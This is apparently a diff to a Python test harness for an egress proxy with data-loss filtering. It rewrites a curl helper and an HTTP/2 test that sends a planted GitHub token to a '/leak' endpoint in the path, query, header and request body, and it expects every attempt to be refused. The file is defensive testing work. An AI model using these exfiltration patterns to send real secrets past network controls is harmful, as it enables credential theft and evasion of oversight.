@@ -278,27 +278,31 @@ def raw_connect(addr, family=socket.AF_INET):
     return out, int((time.monotonic() - start) * 1000)
 
 
-def curl(*args):
-    """Real tool, proxy from the bottle's environment (or -x / --noproxy in args)."""
+def curl(*args, protocol=False):
+    """Real tool, proxy from the bottle's environment (or -x / --noproxy in args). With
+    `protocol`, curl speaks --http2 and the second value is the HTTP version that ran."""
+    extra = ["--http2"] if protocol else []
+    last = "%{http_version}" if protocol else "%{http_connect}"
     try:
         p = subprocess.run(["curl", "-sS", "--max-time", str(TIMEOUT), "-o", "/dev/stdout",
-                            "-w", "\n%{http_code} %{http_connect}"] + list(args),
+                            "-w", "\n%{http_code} " + last] + extra + list(args),
                            capture_output=True, text=True, timeout=TIMEOUT + 5)
     except Exception as e:
-        return err_name(e), ""
+        return err_name(e), "none" if protocol else ""
     body, _, codes = p.stdout.rpartition("\n")
-    code, _, connect = codes.partition(" ")
-    if connect not in ("000", "200", ""):
-        return "curl-connect-" + connect, p.stderr.strip()
+    code, _, tail = codes.partition(" ")
+    second = (tail or "none") if protocol else p.stderr.strip()
+    if not protocol and tail not in ("000", "200", ""):
+        return "curl-connect-" + tail, second
     if code in ("000", ""):
-        return "curl-exit-%d" % p.returncode, p.stderr.strip()
+        return "curl-exit-%d" % p.returncode, second
     block = ""
     if code == "403" and EGRESS_MARK in body:
         try:
             block = json.loads(body).get("reason", "")
         except ValueError:
             pass
-    return judge_response(int(code), block, body), body
+    return judge_response(int(code), block, body), tail if protocol else body
 
 
 BLOCK_HOST = ["403:host_not_allowed"]
@@ -549,34 +553,20 @@ def attack3_evasion(secrets):
             emit("3", "evade-%s-%s" % (name, tag), out, BLOCK_DLP)
 
 
-def negotiated_protocol():
-    """The HTTP version curl ends up speaking through the bump when it offers h2."""
-    try:
-        p = subprocess.run(["curl", "-sS", "--http2", "--max-time", str(TIMEOUT), "-o",
-                            "/dev/null", "-w", "%{http_version}",
-                            "https://%s/h2-probe" % ALLOWED_TLS],
-                           capture_output=True, text=True, timeout=TIMEOUT + 5)
-        return p.stdout.strip() or "none"
-    except Exception as e:
-        return err_name(e)
-
-
 def attack3_h2(secrets):
-    """curl --http2 through the bump. Egress offers only http/1.1 until it speaks h2 (issue
-    14), so these cases say which protocol ran instead of passing as h2."""
+    """curl --http2 through the bump (issue 14): the protocol that ran is asserted, then the
+    planted token in path, query, header and body must be refused on an h2 stream."""
     ghp = secrets["planted-ghp"]
-    proto = negotiated_protocol()
-    h2 = proto == "2"
-    emit("3", "h2-negotiated", "http/" + proto, ["http/2"],
-         **({} if h2 else {"skip": "egress negotiated HTTP/%s, not h2: it does not speak h2 "
-                                   "yet (issue 14); the cases below ran over HTTP/%s"
-                                   % (proto, proto)}))
+    outcome, proto = curl("https://%s/h2-probe" % ALLOWED_TLS, protocol=True)
+    emit("3", "h2-negotiated", "http/" + proto, ["http/2"], legit=outcome)
     for where, extra in (("path", ["https://%s/leak/%s" % (ALLOWED_TLS, ghp)]),
                          ("query", ["https://%s/leak?q=%s" % (ALLOWED_TLS, ghp)]),
-                         ("header", ["-H", "X-Custom: " + ghp, "https://%s/leak" % ALLOWED_TLS])):
-        out, _ = curl("--http2", *extra)
-        emit("3", "h2-offered-over-http/%s-planted-ghp-raw-%s" % (proto, where), out, BLOCK_DLP,
-             protocol=proto)
+                         ("header", ["-H", "X-Custom: " + ghp, "https://%s/leak" % ALLOWED_TLS]),
+                         ("body", ["-d", "t=" + ghp, "https://%s/leak" % ALLOWED_TLS])):
+        out, proto = curl(*extra, protocol=True)
+        # The block must have come back over h2, not a fallback to HTTP/1.1.
+        emit("3", "h2-planted-ghp-raw-%s" % where, "%s over http/%s" % (out, proto),
+             ["%s over http/2" % b for b in BLOCK_DLP], protocol=proto)
 
 
 def attack3_websocket(secrets):
